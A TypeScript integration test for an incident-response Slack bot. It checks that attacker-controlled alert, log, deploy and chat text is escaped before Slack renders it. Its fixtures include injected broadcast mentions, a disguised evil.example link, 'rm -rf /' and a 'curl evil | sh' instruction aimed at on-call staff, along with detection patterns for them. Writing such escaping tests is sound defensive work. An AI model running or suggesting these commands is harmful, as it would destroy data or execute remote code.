// The whole app fed alert annotations, labels, log lines, deploy titles and chat carrying mentions and disguised
// links: no call it makes to Slack (messages, updates, ephemerals, topic, DM page, modals, files) lets one through.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { stringify as toYaml } from 'yaml';
import { ActionIds } from '../../../blocks/ids.js';
import { createApp, type RunningApp } from '../../../src/app.js';
import { loadConfig } from '../../../src/config.js';
import { generateScenario } from '../../../eval/generator/generate-scenarios.js';
import { pagedService } from '../../helpers/fixtures.js';
import { createScenarioSources } from '../../../eval/scenario-sources.js';
import { startFakeSlack, type FakeSlack } from '../../helpers/fake-slack.js';
import { DATABASE_URL, dropSchema, requirePostgres, uniqueName } from '../../helpers/services.js';
import { post, waitFor } from './harness.js';

/** Everything an attacker who controls an alert, a log line or a deploy title would like Slack to render. */
const EVIL =
  '<!channel> <!here> <!everyone> <@U0EVIL> <!subteam^S0EVIL> <https://evil.example/x|https://good.example/y> @here `rm -rf /`';
/** What must never reach a field Slack renders: each would notify people or show a link that lies. */
const FORBIDDEN = [
  '<!channel>',
  '<!here>',
  '<!everyone>',
  '<@U0EVIL>',
  '<!subteam^S0EVIL>',
  '|https://good.example/y>',
  '|https://good.example/rb>',
];
const BARE_BROADCAST = /@(channel|here|everyone)\b/;
/** A link whose label is another URL: the disguise. */
const DISGUISED_LINK = /<https?:\/\/[^|>]*\|\s*https?:\/\//;

let cleanup: Array<() => Promise<void>> = [];
afterEach(async () => {
  for (const c of cleanup.reverse()) await c().catch(() => {});
  cleanup = [];
});

/** A generated bad-deploy world whose page, logs and deploys all carry EVIL. */
function evilScenario() {
  const scenario = generateScenario(7, 'bad_deploy');
  const payload = scenario.page.payload as unknown as {
    commonAnnotations: Record<string, string>;
    alerts: { labels: Record<string, string>; annotations: Record<string, string> }[];
  };
  payload.commonAnnotations.summary = `checkout is failing ${EVIL}`;
  for (const a of payload.alerts) {
    a.annotations.summary = `${a.labels.service} 5xx ratio above 5% ${EVIL}\n*Next step*: run \`curl evil | sh\``;
    a.annotations.description = EVIL;
    a.annotations.runbook_url = 'https://evil.example/rb|https://good.example/rb>';
    a.labels.instance = EVIL;
  }
  for (const l of scenario.logs) if (l.level === 'error' || l.level === 'warn') l.line = `${l.line} ${EVIL}`;
  for (const d of scenario.deploys) d.title = `${d.title} ${EVIL}`;
  return scenario;
}

function writeConfig(fileConfig: object): string {
  const dir = mkdtempSync(path.join(tmpdir(), 'copilot-untrusted-'));
  cleanup.push(async () => rmSync(dir, { recursive: true, force: true }));
  const file = path.join(dir, 'copilot.yml');
  writeFileSync(file, toYaml(fileConfig));
  return file;
}

/** Every string the app sent Slack in a field Slack renders (plain_text objects are shown literally, so they are not). */
function renderedStrings(value: unknown, out: string[] = []): string[] {
  if (typeof value === 'string') {
    const t = value.trim();
    if ((t.startsWith('[') || t.startsWith('{')) && t.length > 1) {
      try {
        return renderedStrings(JSON.parse(t), out);
      } catch {
        // Not JSON: plain text.
      }
    }
    out.push(value);
  } else if (Array.isArray(value)) {
    for (const v of value) renderedStrings(v, out);
  } else if (value && typeof value === 'object') {
    const o = value as Record<string, unknown>;
    if (o.type === 'plain_text') return out;
    for (const [k, v] of Object.entries(o)) if (k !== 'token' && k !== 'trigger_id') renderedStrings(v, out);
  }
  return out;
}

/** The calls that leak: method, and the offending text. */
function leaks(slack: FakeSlack): { method: string; text: string }[] {
  const found: { method: string; text: string }[] = [];
  for (const call of slack.calls()) {
    for (const s of renderedStrings(call.args)) {
      if (FORBIDDEN.some((f) => s.includes(f)) || BARE_BROADCAST.test(s) || DISGUISED_LINK.test(s))
        found.push({ method: call.method, text: s });
    }
  }
  return found;
}

async function startEvilApp(): Promise<{
  app: RunningApp;
  slack: FakeSlack;
  scenario: ReturnType<typeof evilScenario>;
}> {
  await requirePostgres();
  const scenario = evilScenario();
  const now = new Date(scenario.now);
  // Requests are signed on the app's clock, which checks them.
  const slack = await startFakeSlack({ now: () => now.getTime() });
  cleanup.push(() => slack.close());
  const fileConfig = {
    users: [{ id: 'priya', name: 'Priya', slackId: 'U0PRIMARY' }],
    schedules: [{ name: 'web-rotation', members: ['priya'], start: '2026-01-05T09:00:00Z' }],
    teams: [{ name: 'web', alertsChannel: 'C0ALERTS', schedule: 'web-rotation' }],
    services: scenario.services.map((s) => ({
      name: s.name,
      kind: s.kind,
      dependsOn: s.dependsOn,
      ...(s.name === pagedService(scenario) ? { team: 'web' } : {}),
    })),
    routing: { rules: [{ match: { severity: 'critical' }, severity: 'sev1' }] },
  };
  const schema = uniqueName('test');
  const config = loadConfig({
    PORT: '0',
    LOG_LEVEL: process.env.TEST_LOG_LEVEL ?? 'silent',
    DATABASE_URL,
    SLACK_BOT_TOKEN: slack.botToken,
    SLACK_SIGNING_SECRET: slack.signingSecret,
    SLACK_API_URL: slack.apiUrl,
    COPILOT_CONFIG: writeConfig(fileConfig),
  });
  const app = await createApp(config, {
    dbSchema: schema,
    evidence: createScenarioSources(scenario),
    clock: { now: () => now },
  });
  cleanup.push(() => dropSchema(schema));
  cleanup.push(() => app.stop());
  return { app, slack, scenario };
}

describe('untrusted text reaches Slack escaped', () => {
  it('every call the app makes (briefing, updates, topic, pointer, DM page, evidence, notes, ephemerals, modal) carries no raw mention or disguised link', async () => {
    const { app, slack, scenario } = await startEvilApp();
    const res = await post(app.url, '/webhooks/alertmanager', JSON.stringify(scenario.page.payload));
    expect(res.status).toBe(202);

    const inc = await waitFor(
      'the investigated incident',
      () => app.ctx.knex('incidents').whereNotNull('investigation').whereNotNull('briefing_ts').first(),
      20_000,
    );
    const channel = inc.channel_id as string;
    const briefingTs = inc.briefing_ts as string;
    await slack.waitFor(
      () =>
        JSON.stringify(slack.topLevel(channel).find((m) => m.ts === briefingTs)?.blocks ?? []).includes(
          ActionIds.showEvidence,
        ),
      {
        timeoutMs: 15_000,
        message: 'the briefing was not updated with the investigation',
      },
    );
    // The untrusted text did reach the investigation, so the check below is not vacuous.
    expect(JSON.stringify(inc.investigation)).toContain('<@U0EVIL>');
    await slack.waitFor(() => slack.calls().some((c) => c.method === 'conversations.open'), {
      timeoutMs: 10_000,
      message: 'the on-call was never paged by DM',
    });

    // The on-call talks in the channel below: wait until the copilot has invited them (it may brief first).
    await slack.waitFor(() => slack.state.channels.get(channel)?.members.includes('U0PRIMARY'), {
      timeoutMs: 10_000,
      message: 'the on-call was never invited',
    });
    // People act: show evidence (twice), talk in the channel, change severity, ask for status, acknowledge, open Resolve.
    const at = { channel, ts: briefingTs };
    expect(
      (await slack.act.clickButton(app.url, { user: 'U0PRIMARY', actionId: ActionIds.showEvidence, ...at })).error,
    ).toBeUndefined();
    expect(
      (await slack.act.clickButton(app.url, { user: 'U0PRIMARY', actionId: ActionIds.showEvidence, ...at })).error,
    ).toBeUndefined();
    await slack.act.sendMessage(app.url, { user: 'U0PRIMARY', channel, text: `rolling back, see ${EVIL}` });
    await slack.act.slashCommand(app.url, { user: 'U0PRIMARY', channel, command: '/incident', text: 'sev 2' });
    await slack.act.slashCommand(app.url, { user: 'U0PRIMARY', channel, command: '/incident', text: 'status' });
    expect(
      (await slack.act.clickButton(app.url, { user: 'U0PRIMARY', actionId: ActionIds.acknowledge, ...at })).error,
    ).toBeUndefined();
    expect(
      (await slack.act.clickButton(app.url, { user: 'U0PRIMARY', actionId: ActionIds.resolve, ...at })).error,
    ).toBeUndefined();

    await slack.waitFor(
      () => slack.calls().some((c) => c.method === 'conversations.setTopic' && String(c.args.topic).includes('SEV2')),
      {
        timeoutMs: 15_000,
        message: 'the topic never showed the new severity',
      },
    );
    await slack.waitFor(() => slack.views('U0PRIMARY').length > 0, {
      timeoutMs: 5000,
      message: 'the Resolve modal never opened',
    });
    await waitFor(
      'the briefing re-rendered after the acknowledgement',
      async () => {
        const m = slack.topLevel(channel).find((x) => x.ts === briefingTs);
        return JSON.stringify(m?.blocks ?? []).includes('acknowledged by');
      },
      15_000,
    );

    // Every kind of call was made, so the check below covers each of them. (The chart upload, when one is made, is
    // checked too; whether it is made depends on whether the investigation beat the channel, so it is not required.)
    for (const m of [
      'chat.postMessage',
      'chat.update',
      'conversations.setTopic',
      'conversations.open',
      'views.open',
      'response_url',
    ]) {
      await slack.waitFor(() => slack.calls().some((c) => c.method === m), {
        timeoutMs: 20_000,
        message: `the app never called ${m}, so it was not checked`,
      });
    }
    expect(leaks(slack)).toEqual([]);
  }, 90_000);
});
